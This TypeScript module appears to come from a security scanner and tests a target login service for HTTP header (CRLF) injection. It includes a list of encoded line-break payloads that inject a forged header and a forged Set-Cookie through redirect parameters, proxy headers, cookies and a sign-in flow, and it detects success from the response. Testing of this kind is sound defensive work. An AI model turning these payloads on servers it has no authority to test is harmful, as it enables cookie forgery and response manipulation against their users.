import type { Answer } from "./answers.ts";
import type { Asking } from "./ask.ts";
import { type Attack, FEW, forEach } from "./attack.ts";
import { changePassword, newAddress, ownHost, send, signIn, type Target } from "./target.ts";

const HEADER = "X-Forged: yes";
const COOKIE = "Set-Cookie: forged=yes";

const breaks: readonly string[] = [
  "\r\n",
  "\n",
  "\r",
  "%0d%0a",
  "%0a",
  "%0d",
  "%250d%250a",
  "%u000d%u000a",
  "\u560a\u560d",
  "\u010a\u010d",
  "\u0085",
  "\u2028",
  "\u000b",
  "%00%0d%0a",
  "%23%0d%0a",
  "\\r\\n",
  "%e5%98%8a%e5%98%8d",
  "\r\n ",
  "\r\n\t",
  "%20%0d%0a%20",
];

export const headerInjection: Attack = {
  name: "header-injection",
  about: "line breaks in everything that ends up in a header of the answer",
  meaning: "A link can make your server say whatever the attacker likes, cookies included.",
  noun: "requests",
  verb: "brought a header of their own",
  needs: [],

  async run(target, tally) {
    const texts = breaks.flatMap((one) => [HEADER, COOKIE].map((line) => `${one}${line}`));
    const judge = (what: string, answer: Answer): void => {
      tally.tried();
      if (isForged(answer)) tally.gotThrough(what);
    };
    await forEach(
      texts.flatMap((text) => askings(target, text)),
      FEW,
      async (asking) => {
        judge(`${asking.path}`, await send(target, asking));
      },
    );
    if (target.fresh) await signedIn(target, texts, judge);
  },
};

/** In an address, line breaks have to be encoded; a break as it is would end the request's own line. */
function askings(target: Target, text: string): readonly Asking[] {
  const own = ownHost(target);
  const encoded = encodeURIComponent(text);
  const once = encodeURI(text).replaceAll("%25", "%");
  // One byte a character goes out: UTF-8 has to be made before.
  const bytes = Buffer.from(text.replaceAll(/\r\n?|\n/g, "\r"), "utf8").toString("latin1");
  const headers = {
    Accept: "text/html",
    Referer: `http://${own}/${bytes}`,
    "X-Forwarded-Host": `${own}${bytes}`,
    "X-Forwarded-Uri": `/${bytes}`,
    "X-Forwarded-Proto": `https${bytes}`,
    "Accept-Language": bytes,
    "X-Request-Id": bytes,
    Origin: `http://${own}${bytes}`,
  };
  return [
    { path: `/login?return_to=/${encoded}` },
    { path: `/login?return_to=/${once}&error=${once}` },
    { path: `/setup?return_to=/${encoded}&token=${encoded}` },
    { path: `/setup?return_to=/${once}` },
    { path: `/${once}` },
    { path: `/login/${encoded}` },
    { path: "/logout", form: { return_to: `/${text}` } },
    ...Object.entries(headers).flatMap(([name, value]) => [
      { path: "/forward-auth?deny=401", headers: { Accept: "text/html", [name]: value } },
      { path: "/logout", form: {}, headers: { [name]: value } },
    ]),
    { path: "/account/password", headers: { Cookie: `session=${bytes}` }, form: {} },
  ];
}

/** The account that was made for this has a line break in its name, which goes to proxies. */
async function signedIn(
  target: Target,
  texts: readonly string[],
  judge: (what: string, answer: Answer) => void,
): Promise<void> {
  const { account } = target;
  if (account === undefined) return;
  const { username, password, token: session } = account;
  judge("the name of the account", await send(target, { path: "/forward-auth", session }));
  let from = "";
  for (const [at, text] of texts.entries()) {
    if (at % 5 === 0) from = await newAddress(target);
    const fields = { username, password, return_to: `/${text}` };
    judge("a sign-in's way back", await signIn(target, fields, { from }));
    const Referer = `http://${ownHost(target)}/${encodeURI(text).replaceAll("%25", "%")}`;
    judge("the page of the password form", await changePassword(target, account, { Referer }));
  }
}

const isForged = ({ headers, status }: Answer): boolean =>
  status !== 400 &&
  headers.some(
    ([name, value]) =>
      /^\W*x-forged/i.test(name) || (/set-cookie/i.test(name) && /^forged=/.test(value.trim())),
  );
